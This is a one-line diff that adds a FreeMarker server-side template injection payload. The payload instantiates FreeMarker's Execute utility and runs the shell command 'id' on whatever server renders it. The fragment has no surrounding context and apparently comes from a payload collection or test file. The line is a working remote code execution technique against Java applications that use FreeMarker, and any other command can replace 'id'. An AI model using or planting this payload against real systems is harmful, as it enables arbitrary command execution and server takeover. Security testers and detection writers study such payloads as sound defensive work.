@@ -1,0 +1,1 @@
+<#assign x = 'freemarker.template.utility.Execute'?new()>${x('id')}
